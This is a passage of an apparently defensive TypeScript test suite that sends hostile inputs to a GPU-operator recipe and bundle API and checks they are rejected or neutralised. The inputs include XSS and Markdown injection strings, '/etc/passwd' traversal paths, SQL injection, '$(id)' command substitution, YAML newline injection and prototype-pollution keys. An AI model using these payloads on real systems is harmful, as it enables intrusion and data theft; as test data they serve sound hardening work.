    ['H23', 'canary payloads in set values and overrides', postBundle(q({ set: safeSetValues.map((v, i) => `gpuoperator:canary.s${i}=${v}`) }), recipeBody(ref({
      overrides: { canary: Object.fromEntries(payloads.map((v, i) => [`o${i}`, v])), 'key: injected\nx': 'y', dcgmExporter: { config: { create: true, name: 'x\n  injected: true' } } },
      manifestFiles: ['components/gpu-operator/manifests/dcgm-exporter.yaml'],
    }))), okZip('canary-values', (root) => {
      const values = parseYaml(readFileSync(join(root, 'gpu-operator/values.yaml'), 'utf8'));
      safeSetValues.forEach((v, i) => expect(values.canary[`s${i}`]).toBe(v));
      payloads.forEach((v, i) => expect(values.canary[`o${i}`]).toBe(v));
      expect(values['key: injected\nx']).toBe('y');
      expect(values).not.toHaveProperty('key');
      // A rendered manifest printing an override: the newline stays inside one scalar.
      for (const d of readFileSync(join(root, 'gpu-operator/manifests/dcgm-exporter.yaml'), 'utf8').split(/^---$/m)) {
        const m = parseYaml(d);
        if (m?.metadata) expect(m.metadata).not.toHaveProperty('injected');
      }
    })],
    ['H23', 'odd but valid words reach helm as single argv words', postBundle('', recipeBody(ref({ source: 'https://charts.example.com/{a,b}/*?q=[x]#~', version: 'v1.0+build_7', chart: 'nvidia/gpu-operator' }))), okZip('odd-words', () => undefined)],

    ['H23', 'Markdown injection through criteria and metadata (§15.1)', postBundle('', json({
      criteria: { service: '<script>alert(1)</script> | `x`\n# injected', os: '[link](javascript:alert(1))' },
      metadata: { version: '</code>\n## injected <img src=x onerror=alert(1)>' },
      componentRefs: [ref()],
    })), okZip('markdown', (root) => {
      const readme = readFileSync(join(root, 'README.md'), 'utf8');
      expect(readme).not.toContain('<script>');
      expect(readme).not.toContain('<img');
      expect(readme.split('\n').some((l) => /^#+ injected/.test(l))).toBe(false);
      expect(readme).not.toMatch(/(?<!\\)\[link\]\(javascript/);
    })],

    // H25: nodes.
    ...['-1', '1e3', '0x10', '8abc', '+5', ' 5', '5 ', '1.5', '2147483648', '99999999999999999999999', long(5000, '9'), '٣', '０'].flatMap((v): Row[] => [
      ['H25', `GET /v1/recipe nodes=${JSON.stringify(v).slice(0, 20)}`, { url: `/v1/recipe${q({ nodes: v })}` }, RECIPE],
      ['H25', `GET /v1/query nodes=${JSON.stringify(v).slice(0, 20)}`, { url: `/v1/query${q({ nodes: v })}` }, QUERY_CRITERIA],
      ['H25', `bundle nodes=${JSON.stringify(v).slice(0, 20)}`, postBundle(q({ nodes: v })), NODES],
    ]),
    ['H25', 'GET nodes=2147483647 is fine', { url: '/v1/recipe?nodes=2147483647' }, ok((r) => expect(r.json().criteria.nodes).toBe(2_147_483_647))],
    ...['-1', '"8"', '8.5', '2147483648', 'true', '[1]', '{"a":1}', '1e3', '8.0'].flatMap((v): Row[] => [
      ['H25', `POST /v1/recipe spec.nodes ${v}`, postRecipe(`{"spec":{"nodes":${v}}}`), RECIPE],
      ['H25', `POST /v1/query criteria.nodes ${v}`, postQuery(`{"criteria":{"nodes":${v}}}`), BODY_CRITERIA],
      ['H25', `bundle criteria.nodes ${v}`, postBundle('', `{"criteria":{"nodes":${v}},"componentRefs":[{"name":"gpu-operator"}]}`), BUNDLE_BODY],
    ]),
    ...['0x10', '1e3', '"8"', '.inf', '-.inf', '.nan', '0o10', '8.0'].map((v): Row => ['H25', `POST /v1/recipe YAML nodes: ${v}`, postRecipe(`spec: {nodes: ${v}}`, 'application/yaml'), RECIPE]),

    // H26: criteria values: length, control characters, non-ASCII look-alikes.
    ...[long(65), `eks${long(70, ' ')}x`, 'eks\u0001', 'eks\u000b', '\u212Aind', '\uFEFFeks', 'ｅｋｓ', 'еks', 'eks\u00a0', 'ek\u200bs', 'EKS\u0130', 'eks\u0000'.replace('\u0000', '\u007f')].flatMap((v): Row[] => [
      ['H26', `GET /v1/recipe service=${JSON.stringify(v).slice(0, 24)}`, { url: `/v1/recipe${q({ service: v })}` }, { ...RECIPE, check: echoCapped(v) }],
      ['H26', `GET /v1/query service=${JSON.stringify(v).slice(0, 24)}`, { url: `/v1/query${q({ service: v })}` }, { ...QUERY_CRITERIA, check: echoCapped(v) }],
      ['H26', `POST /v1/recipe spec.service=${JSON.stringify(v).slice(0, 24)}`, postRecipe(json({ spec: { service: v } })), { ...RECIPE, check: echoCapped(v) }],
      ['H26', `POST /v1/query criteria.service=${JSON.stringify(v).slice(0, 24)}`, postQuery(json({ criteria: { service: v } })), { ...BODY_CRITERIA, check: echoCapped(v) }],
    ]),
    ['H26', 'gpu alias with a fullwidth digit', { url: `/v1/recipe${q({ gpu: 'h１00' })}` }, RECIPE],
    ['H26', 'accelerator of 65 characters', { url: `/v1/recipe${q({ accelerator: long(65, 'h') })}` }, RECIPE],
    ['H26', 'padding and case are folded (ASCII)', { url: `/v1/recipe${q({ service: ' \tEKS\r\n', os: 'AL2023' })}` }, ok((r) => expect(r.json().criteria).toMatchObject({ service: 'eks', os: 'amazonlinux' }))],
    ['H26', 'deployer look-alike (Cyrillic e)', postBundle(q({ deployer: 'hеlm' })), bad('Invalid deployer parameter')],
    ['H26', 'deployer overlong', postBundle(q({ deployer: long(5000) })), bad('Invalid deployer parameter')],

    // H27: bundlers.
    ...[Array.from({ length: 51 }, (_, i) => `c${i}`).join(','), long(64), 'gpu_operator', '../x', 'a b', 'gpu‐operator', '$(id)', '-x'].map(
      (v): Row => ['H27', `bundlers ${JSON.stringify(v).slice(0, 30)}`, postBundle(q({ bundlers: v })), bad('Invalid bundler type')],
    ),
    ['H27', 'bundlers: unknown name', postBundle(q({ bundlers: 'no-such-thing' })), bad('Invalid bundler type')],
    ['H27', 'bundlers: folded and de-duplicated', postBundle(q({ bundlers: [' GPU-Operator ,,gpu-operator', 'gpu-operator'] })), okZip('bundlers-folded')],

    // H28: query-string encoding.
    ...['/?x=%', '/v1/recipe?service=%ZZ', '/v1/recipe?service=eks%00', '/v1/recipe?a%00=1', '/v1/query?selector=%E0%A4%A', '/v1/recipe?service=%C0%AF', '/v1/recipe?service=%ED%A0%80'].map(
      (url): Row => ['H28', `GET ${url}`, { url }, QS],
    ),
    ['H28', 'POST /v1/bundle?set=%ZZ', postBundle('?set=%ZZ'), QS],
    ['H28', 'NUL in repo', postBundle('?deployer=argocd&repo=https://x.example/r.git%00'), QS],
    ['H28', 'NUL in bundlers', postBundle('?bundlers=gpu-operator%00'), QS],
    ['H28', 'POST /v1/recipe?x=%00', { ...postRecipe('{}'), url: '/v1/recipe?x=%00' }, QS],

    // Paths and methods (§1, §3.3): traversal-looking and odd paths are just unknown routes.
    ...['/../../etc/passwd', '/v1/recipe/', '/V1/RECIPE', '//v1/recipe', '/v1/recipe/..%2f..%2fetc%2fpasswd', '/v1/%2e%2e/recipe', `/${long(5000)}`, '/v1/recipe%00'].map(
      (url): Row => ['R', `GET ${url.slice(0, 40)}`, { url }, { status: 404, code: 'NOT_FOUND', message: 'Route not found', details: 'any' }],
    ),
    ['R', 'PUT /v1/bundle', { method: 'PUT', url: '/v1/bundle', body: '{}', ct: 'application/json' }, { status: 405, code: 'METHOD_NOT_ALLOWED', message: 'Method not allowed', details: { method: 'PUT' } }],
    ['R', 'DELETE /v1/recipe', { method: 'DELETE', url: '/v1/recipe' }, { status: 405, code: 'METHOD_NOT_ALLOWED', message: 'Method not allowed', details: { method: 'DELETE', allowed: ['GET', 'POST'] } }],
    ['R', 'GET /v1/bundle', { url: '/v1/bundle' }, { status: 405, code: 'METHOD_NOT_ALLOWED', message: 'Method not allowed', details: { method: 'GET' } }],

    // Repeated and conflicting query parameters (§6, §8.6): the first occurrence wins.
    ['Q', 'service=eks&service=gke', { url: '/v1/recipe?service=eks&service=gke' }, ok((r) => expect(r.json().criteria.service).toBe('eks'))],
    ['Q', 'service=tpu&service=eks (first, invalid, wins)', { url: '/v1/recipe?service=tpu&service=eks' }, RECIPE],
    ['Q', 'accelerator empty, gpu used', { url: '/v1/recipe?accelerator=&gpu=h100' }, ok((r) => expect(r.json().criteria.accelerator).toBe('h100'))],
    ['Q', 'accelerator wins over gpu', { url: '/v1/recipe?accelerator=h100&gpu=tpu' }, ok((r) => expect(r.json().criteria.accelerator).toBe('h100'))],
    ['Q', 'nodes=1&nodes=-1', { url: '/v1/recipe?nodes=1&nodes=-1' }, ok((r) => expect(r.json().criteria.nodes).toBe(1))],
    ['Q', 'nodes=-1&nodes=1', { url: '/v1/recipe?nodes=-1&nodes=1' }, RECIPE],
    ['Q', 'selector=kind&selector=x', { url: '/v1/query?selector=kind&selector=x' }, ok((r) => expect(r.json()).toBe('RecipeResult'))],
    ['Q', 'selector with a leading dot', { url: '/v1/query?selector=.kind' }, ok((r) => expect(r.json()).toBe('RecipeResult'))],
    ['Q', 'deployer=bogus&deployer=helm', postBundle('?deployer=bogus&deployer=helm'), bad('Invalid deployer parameter')],
    ['Q', 'repo twice, second hostile (ignored)', postBundle(`?deployer=argocd&repo=https://good.example/r.git&repo=${encodeURIComponent('x\ny')}`), okZip('repo-first-wins')],
    ['Q', '__proto__ and constructor parameters are ignored', { url: '/v1/recipe?__proto__=x&constructor=y&prototype=z&service=eks' }, ok((r) => expect(r.json().criteria.service).toBe('eks'))],
    ['Q', '1000 unknown parameters are ignored', { url: `/v1/recipe?${Array.from({ length: 1000 }, (_, i) => `p${i}=${i}`).join('&')}` }, ok()],
    ['Q', 'the same parameter 5000 times', { url: `/v1/recipe?${Array(5000).fill('service=eks').join('&')}` }, ok()],
  ];
  return rows;
}

/** H26: the echoed value is cut to 64 characters. */
const echoCapped = (v: string) => (res: LightMyRequestResponse) => {
  const error = String(res.json().details?.error ?? '');
  if (v.length > 64) expect(error).not.toContain(v);
};

/** H29: bad ids are replaced by a fresh UUID, never reflected; good ones are echoed. */
const REQUEST_IDS: Array<[string, boolean]> = [
  ['not-a-uuid', false],
  ['<script>alert(1)</script>', false],
  [`${'a'.repeat(8)}-aaaa-aaaa-aaaa-${'a'.repeat(12)}${'0'.repeat(40)}`, false],
  ['550e8400-e29b-41d4-a716-44665544000g', false],
  ["' OR 1=1 --", false],
  ['550e8400e29b41d4a716446655440000550e8400e29b41d4a716446655440000x', false],
  ['../../etc/passwd', false],
  ['550E8400-E29B-41D4-A716-446655440000', true],
  ['550e8400-e29b-41d4-a716-446655440000', true],
];

function check(res: LightMyRequestResponse, exp: Exp): void {
  expect(res.statusCode, res.body.slice(0, 300)).toBe(exp.status);
  if (exp.status >= 400) {
    expect(res.headers['content-type']).toBe('application/json');
    const body = res.json() as Record<string, unknown>;
    expect(body.code).toBe(exp.code);
    expect(body.message).toBe(exp.message);
    expect(body.retryable).toBe(RETRYABLE.has(String(exp.code)));
    expect(body.requestId).toBe(res.headers['x-request-id']);
    expect(body.requestId).toMatch(UUID);
    if (exp.details === 'none') expect(body).not.toHaveProperty('details');
    else if (exp.details === 'any') expect(body.details).toBeTypeOf('object');
    else if (exp.details) expect(body.details).toEqual(exp.details);
  }
  exp.check?.(res);
}

async function send(r: Req): Promise<LightMyRequestResponse> {
  const headers: Record<string, string> = { ...(r.headers ?? {}) };
  if (r.ct !== undefined) headers['content-type'] = r.ct;
  return app.inject({ method: (r.method ?? 'GET') as 'GET', url: r.url, payload: r.body, headers });
}

beforeAll(async () => {
  app = await hostileApp();
});
afterAll(async () => {
  await app?.close();
  box?.close();
});

describe('hostile inputs, table-driven (API.md §12, BUNDLES.md §15)', () => {
  const rows = table(box.canary);
  it.each(rows.map((r, i) => [r[0], r[1], i] as const))('%s %s', async (_row, _name, i) => {
    const [row, name, req, exp] = rows[i];
    let res: LightMyRequestResponse;
    const t0 = performance.now();
    try {
      res = await send(req);
    } catch (e) {
      ledger.crashes++;
      ledger.record({ row, name, expected: exp.status, status: -1, ok: false });
      throw e;
    }
    let passed = false;
    try {
      check(res, exp);
      passed = true;
    } finally {
      ledger.record({ row, name, expected: exp.status, status: res.statusCode, ok: passed, ms: performance.now() - t0 });
    }
  });

  it.each(REQUEST_IDS)('H29 X-Request-Id %j', async (id, echoed) => {
    const res = await app.inject({ method: 'GET', url: '/v1/recipe?accelerator=tpu', headers: { 'x-request-id': id } });
    let passed = false;
    try {
      expect(res.statusCode).toBe(400);
      const got = res.headers['x-request-id'] as string;
      expect(res.json().requestId).toBe(got);
      if (echoed) expect(got).toBe(id);
      else {
        expect(got).toMatch(UUID);
        expect(got).not.toBe(id);
        expect(res.body).not.toContain(id);
      }
      passed = true;
    } finally {
      ledger.record({ row: 'H29', name: `X-Request-Id ${id.slice(0, 20)}`, expected: 400, status: res.statusCode, ok: passed });
    }
  });

  it('H23/H24/§15: every successful bundle unzips to safe entries; its scripts pass bash -n and run against stub CLIs without executing any injected command', () => {
    expect(zips.length).toBeGreaterThanOrEqual(8);
    for (const { name, zip, inspect } of zips) {
      const { root, entries } = unzipInto(box, zip, name);
      for (const e of entries) {
        expect(e.startsWith('/') || e.includes('\\') || e.split('/').includes('..'), e).toBe(false);
      }
      inspect?.(root);
      const scripts = scriptsIn(root);
      expect(bashSyntaxFailures(root, scripts), name).toEqual([]);
      expect(shellcheckFindings(root, scripts), name).toBe('');
      const run = runBundleScripts(box, root);
      expect(run.failures, name).toEqual([]);
      if (run.canary) ledger.injectedCommands++;
    }
    const calls = box.calls();
    expect(calls.length).toBeGreaterThan(0);
    // The odd-but-valid source and version each arrive as exactly one argv word.
    const odd = calls.find((c) => c[0] === 'helm' && c.includes('https://charts.example.com/{a,b}/*?q=[x]#~'));
    expect(odd, 'helm called with the odd source as one word').toBeDefined();
    expect(odd).toContain('v1.0+build_7');
    // No stub ever saw a fragment of a canary payload as an argument.
    for (const c of calls) for (const a of c) expect(a.includes('touch'), a).toBe(false);
    expect(ledger.injectedCommands).toBe(0);
  });

  it('H32: no temp files or folders left behind by the server', () => {
    const left = readdirSync(tmpdir()).filter((e) => !tmpBefore.has(e) && !e.startsWith('aicr-hostile-') && /aicr|bundle/i.test(e));
    expect(left).toEqual([]);
  });

  it('afterwards: no prototype polluted, the server is healthy and answers a normal request; the table', async () => {
    expect(pollutionFindings()).toEqual([]);
    expect((await app.inject({ method: 'GET', url: '/health' })).statusCode).toBe(200);
    const r = await app.inject({ method: 'GET', url: '/v1/recipe?service=eks&accelerator=h100&intent=training' });
    expect(r.statusCode).toBe(200);
    expect(r.json().criteria).toMatchObject({ service: 'eks', accelerator: 'h100', intent: 'training' });
    ledger.print();
    const c = ledger.counts;
    expect(c.inputs).toBeGreaterThan(400);
    expect(c).toEqual({ inputs: c.inputs, handledAsDocumented: c.inputs, fiveXX: 0, crashes: 0, prototypePollution: 0, injectedCommandsExecuted: 0 });
  });
});
